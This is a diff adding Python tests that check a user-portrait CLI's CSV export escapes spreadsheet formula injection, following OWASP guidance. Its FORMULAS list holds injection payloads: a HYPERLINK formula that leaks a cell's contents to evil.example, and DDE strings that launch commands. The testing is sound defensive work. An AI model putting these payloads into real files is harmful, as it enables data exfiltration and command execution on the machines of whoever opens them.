@@ -205,3 +205,33 @@ def test_a_fresh_portrait_process_loads_no_heavy_module(runner: CliRunner, tmp_p
         assert res.returncode == 0, res.stderr
         assert res.stderr.strip().splitlines()[-1] == "[]"
         assert json.loads(res.stdout)["ref_date"] == f"{begin}-20240612"
+
+
+#: Device names a spreadsheet would run as formulas (OWASP "CSV Injection"), issue 24.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]  # fmt: skip
+
+
+def test_portrait_csv_cells_never_start_a_formula(runner: CliRunner, tmp_path: Path) -> None:
+    import csv
+    import io
+
+    events = [{"appid": A, "openid": f"f{i}", "ts": "2024-06-11T10:00:00+08:00", "device": d}
+              for i, d in enumerate(FORMULAS)]  # fmt: skip
+    runner.invoke(cli, ["ingest", "-q", str(write_ndjson(tmp_path / "f.ndjson", events))])
+    args = ["portrait", "--appid", A, "--begin", "20240611", "--end", "20240611"]
+    out = runner.invoke(cli, [*args, "--format", "csv"])
+    assert out.exit_code == 0, out.output
+    rows = list(csv.DictReader(io.StringIO(out.output)))
+    devices = {r["name"] for r in rows if r["dimension"] == "devices"}
+    assert devices == {"'" + d for d in FORMULAS}
+    assert not [r for r in rows if r["name"][:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_csv_cell_follows_owasp() -> None:
+    from userportrait.portrait.export import csv_cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_cell(start + "1+1") == "'" + start + "1+1"
+    assert [csv_cell(v) for v in ("深圳", "iPhone 15", "'quoted", "", 7, -3)] == [
+        "深圳", "iPhone 15", "'quoted", "", 7, -3,
+    ]  # fmt: skip
